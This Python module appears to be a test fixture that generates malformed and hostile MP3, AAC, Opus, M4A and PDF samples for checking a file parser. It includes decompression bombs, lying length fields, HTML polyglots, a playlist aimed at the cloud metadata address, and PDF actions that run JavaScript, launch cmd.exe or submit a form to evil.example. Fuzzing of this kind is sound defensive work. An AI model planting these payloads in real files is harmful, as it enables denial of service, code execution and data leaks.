"""Clips and papers that nobody should send. Each is named by its trick."""

import random
import struct
import zlib
from collections.abc import Iterator

from bench.picture_bytes import PAYLOAD, Named, honest
from tests.catalogue.media.clips import (
    ADTS_FRAME,
    CATALOGUE,
    MP3_FRAME,
    OPUS_HEAD,
    PAGE,
    PAGES,
    adts,
    box,
    id3,
    m4a,
    mp3,
    ogg_page,
    opus,
    pdf,
    plain_pdf,
    stream,
)


def _spoilt(files: dict[str, bytes], flips: int) -> Iterator[Named]:
    """Yield each file cut off, lengthened, and with bytes changed at random."""
    for name, data in files.items():
        for tenth in (1, 3, 5, 8):
            yield f"{name} cut at {tenth}0 %", data[: len(data) * tenth // 10]
        for length in (2, 4, 9, 27, 60):
            yield f"{name} cut at {length}", data[:length]
        yield f"{name} and html", data + PAYLOAD
        yield f"html and {name}", PAYLOAD + data
        for seed in range(flips):
            dice = random.Random(f"{name} {seed}")
            wrong = bytearray(data)
            for _ in range(1 + seed * 2):
                wrong[dice.randrange(len(wrong))] = dice.randrange(256)
            yield f"{name} flipped {seed}", bytes(wrong)


def spoilt_clips() -> Iterator[Named]:
    """Yield clips that broke on the way."""
    yield from _spoilt({"mp3": mp3(), "aac": adts(), "opus": opus(seconds=5), "m4a": m4a()}, 8)


def clip_tricks() -> Iterator[Named]:
    """Yield clips whose lengths lie, whose boxes nest without end, or that carry something else."""
    yield "mp3 with html in its tag", id3(PAYLOAD) + mp3()
    yield "mp3 with 400,000 tags", id3(b"") * 400_000 + mp3()
    yield "tag that says 256 MB", b"ID3\x04\0\0\x7f\x7f\x7f\x7f" + mp3()
    yield "mp3 of 200,000 short frames", (bytes([0xFF, 0xE3, 0x18, 0x00]) + bytes(20)) * 200_000
    yield "mp3 of free bit rate", (b"\xff\xfb\x00\x00" + bytes(100)) * 50
    yield "mp3 frames apart", (MP3_FRAME + b"\0") * 50
    yield "aac frames of no length", b"\xff\xf1\x50\x80\0\0\0" * 1000
    yield "aac frames that overlap", (ADTS_FRAME[:5] + b"\xff\xfc") * 1000
    yield "opus with html in a comment", opus(comment=PAYLOAD)
    yield (
        "opus of 20,000 empty pages",
        ogg_page(0, OPUS_HEAD, flags=2) + b"".join(ogg_page(number, b"") for number in range(1, 20_000)),
    )
    yield "opus of two streams", opus() + ogg_page(3, b"x", serial=9)
    yield "vorbis", ogg_page(0, b"\x01vorbis" + bytes(22), flags=2) + ogg_page(1, b"\x03vorbis")
    yield "page that says 255 segments", b"OggS\0\x02" + bytes(20) + b"\xff"
    yield "m4a with html in its tags", m4a(udta=PAYLOAD)
    yield "m4a with html before the sound", m4a(in_mdat=PAYLOAD)
    yield "m4a with html in another box", m4a(behind=box(b"uuid", PAYLOAD))
    yield "film", m4a(handler=b"vide")
    yield "fragments", m4a(behind=box(b"moof", bytes(60)))
    nested = b""
    for _ in range(5000):
        nested = box(b"moov", nested)
    yield "boxes in boxes in boxes", box(b"ftyp", b"M4A ") + nested
    yield "600,000 boxes", box(b"ftyp", b"M4A ") + box(b"free") * 600_000
    brand = box(b"ftyp", b"M4A ")
    for size in (0, 1, 7, 2**32 - 1):
        yield f"box that says {size} bytes", brand + struct.pack(">I", size) + b"moov" + bytes(30)
    yield "box that says 2^63 bytes", box(b"ftyp", b"M4A ") + struct.pack(">I4sQ", 1, b"moov", 2**63)
    for table in (b"stsz", b"stco", b"stsc"):
        data = m4a()
        at = data.find(table) + (12 if table == b"stsz" else 8)
        for count in (0xFFFFFFFF, 0):
            lie = data[:at] + struct.pack(">I", count) + data[at + 4 :]
            yield f"{table.decode()} of {count} entries", lie
    data = m4a()
    at = data.find(b"stsc") + 16
    yield "a chunk of 4 billion samples", data[:at] + b"\xff" * 4 + data[at + 4 :]
    at = data.find(b"stsz") + 8
    yield "samples of 4 GB", data[:at] + b"\xff" * 4 + data[at + 4 :]
    yield from {
        "nothing": b"",
        "NULs": bytes(3000),
        "wav": b"RIFF\x24\0\0\0WAVEfmt " + bytes(40),
        "flac": b"fLaC" + bytes(60),
        "midi": b"MThd\0\0\0\6" + bytes(20),
        "wma": b"\x30\x26\xb2\x75\x8e\x66\xcf\x11" + bytes(60),
        "amr": b"#!AMR\n" + bytes(60),
        "playlist": b"#EXTM3U\nhttp://169.254.169.254/",
        "jpeg": honest()["jpeg"],
        "mp3 of 6 MB": mp3(15_000),
    }.items()


def spoilt_papers() -> Iterator[Named]:
    """Yield papers that broke on the way."""
    packed = stream(b"/Filter /FlateDecode", zlib.compress(b"BT (A paper) Tj ET" * 50))
    yield from _spoilt({"pdf": plain_pdf(), "pdf with a stream": pdf(CATALOGUE, PAGES, PAGE, packed)}, 12)


def paper_tricks() -> Iterator[Named]:
    """Yield PDFs that do something, hide something or blow up."""
    for name, part in {
        "script": b"<</S /JavaScript /JS (app.alert(1))>>",
        "script in escaped letters": b"<</S /#4a#61vaScript /JS (app.alert(1))>>",
        "program": b"<</S /Launch /F (cmd.exe)>>",
        "attached file": stream(b"/Type /EmbeddedFile", b"MZ"),
        "form of scripts": b"<</AcroForm <</XFA 5 0 R>>>>",
        "form that sends itself": b"<</S /SubmitForm /F (https://evil.example)>>",
        "film": b"<</Subtype /RichMedia>>",
        "script in packed objects": stream(
            b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", zlib.compress(b"9 0 <</S /JavaScript>>")
        ),
        "packed objects as letters": stream(b"/Type /ObjStm /Filter [/A85 /FlateDecode]", b"87cURD~>"),
        "bomb": stream(b"/Filter /FlateDecode", zlib.compress(bytes(80_000_000), 9)),
        "bomb in a bomb": stream(
            b"/Filter [/FlateDecode /FlateDecode]", zlib.compress(zlib.compress(bytes(80_000_000), 9), 9)
        ),
        "20,001 streams": b"stream\nx endstream " * 20_001,
        "a stream without an end": b"stream\n" + bytes(4000),
        "7 MB of brackets": b"[" * 7_000_000,
        "7 MB of number signs": b"#41" * 2_300_000,
    }.items():
        yield name, pdf(CATALOGUE, PAGES, PAGE, part)
    yield "locked", pdf(CATALOGUE, trailer=b"/Root 1 0 R /Encrypt 9 0 R")
    yield "magic alone", b"%PDF-1.7"
    yield "pdf and zip", plain_pdf() + b"PK\x03\x04" + bytes(30)
    yield "html before pdf", b"<html>" + plain_pdf()
    yield "9 MB of pdf", plain_pdf() + bytes(9_000_000)
    yield "word document", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    yield "rtf", b"{\\rtf1\\object}"
    yield "docx", b"PK\x03\x04" + bytes(600)
    yield "webp", honest()["webp"]
    yield "scan", honest()["jpeg"] + PAYLOAD


def clips() -> Iterator[Named]:
    """Yield all clips."""
    for family in (spoilt_clips, clip_tricks):
        for name, data in family():
            yield f"{family.__name__}: {name}", data


def papers() -> Iterator[Named]:
    """Yield all papers."""
    for family in (spoilt_papers, paper_tricks):
        for name, data in family():
            yield f"{family.__name__}: {name}", data
